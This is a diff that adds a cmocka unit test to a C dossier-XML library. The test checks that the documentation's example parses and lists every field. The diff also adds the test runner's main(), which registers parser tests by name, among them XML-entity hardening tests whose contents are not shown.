+/* docs/dossier-format.md: its example is a valid dossier, and it names every DOSSIER() key and
+ * every element. */
+static void test_documentation_matches(void **state)
+{
+    char path[4096];
+    snprintf(path, sizeof path, "%s", ka_test_data_path("../../docs/dossier-format.md"));
+    size_t len;
+    char *md = read_file(path, &len);
+    if (!md)
+        fail_msg("cannot read %s", path);
+    const char *start = strstr(md, "```xml\n");
+    assert_non_null(start);
+    start += 7;
+    const char *end = strstr(start, "```");
+    assert_non_null(end);
+    ka_dossier *d = parse_ok(start, (size_t)(end - start));
+    assert_string_equal(get(d, "name"), "SIA Ķegums Enerģija");
+    assert_string_equal(get(d, "manager"), "Ștefan Țară (Brașov office)");
+    assert_string_equal(rget(d, "people", 0, "name"), "Григорій Сковорода");
+    ka_dossier *built = realistic_profile();
+    assert_same_dossier(d, built);
+    ka_dossier_free(built);
+    ka_dossier_free(d);
+
+    char needle[128];
+    for (size_t s = 0; s < ka_dossier_section_count(); s++) {
+        const ka_dossier_section_def *sec = ka_dossier_section_at(s);
+        for (size_t f = 0; f < sec->nfields; f++) {
+            snprintf(needle, sizeof needle, "| `%s` |", sec->fields[f].key);
+            if (!strstr(md, needle))
+                fail_msg("docs lack the row of field '%s' (section %s)", sec->fields[f].key,
+                         sec->key);
+        }
+    }
+    for (size_t i = 0; i < ka_dossier_derived_count(); i++) {
+        snprintf(needle, sizeof needle, "| `%s` |", ka_dossier_derived_at(i)->key);
+        if (!strstr(md, needle))
+            fail_msg("docs lack the row of derived field '%s'", ka_dossier_derived_at(i)->key);
+    }
+    assert_non_null(strstr(md, KA_DOSSIER_NS));
+    assert_non_null(strstr(md, KA_DOSSIER_PROPERTY_PREFIX));
+    free(md);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_tables_are_consistent),
+        cmocka_unit_test(test_tables_match_schema),
+        cmocka_unit_test(test_schema_and_model_agree_on_values),
+        cmocka_unit_test(test_new_is_empty_and_free_accepts_null),
+        cmocka_unit_test(test_set_get_and_refusals),
+        cmocka_unit_test(test_type_list_is_canonical),
+        cmocka_unit_test(test_records),
+        cmocka_unit_test(test_field_for_dossier_function),
+        cmocka_unit_test(test_overdue),
+        cmocka_unit_test(test_round_trip_multilingual),
+        cmocka_unit_test(test_round_trip_special_text),
+        cmocka_unit_test(test_round_trip_every_field),
+        cmocka_unit_test(test_serialize_refuses_incomplete),
+        cmocka_unit_test(test_size_cap_boundary),
+        cmocka_unit_test(test_large_valid_dossier),
+        cmocka_unit_test(test_billion_laughs),
+        cmocka_unit_test(test_external_entities_are_never_read),
+        cmocka_unit_test(test_malformed_documents),
+        cmocka_unit_test(test_wrong_documents),
+        cmocka_unit_test(test_huge_documents),
+        cmocka_unit_test(test_accepted_variants),
+        cmocka_unit_test(test_documentation_matches),
+    };
+    int failed = cmocka_run_group_tests(tests, NULL, NULL);
+    xmlCleanupParser();
+    return failed;
+}
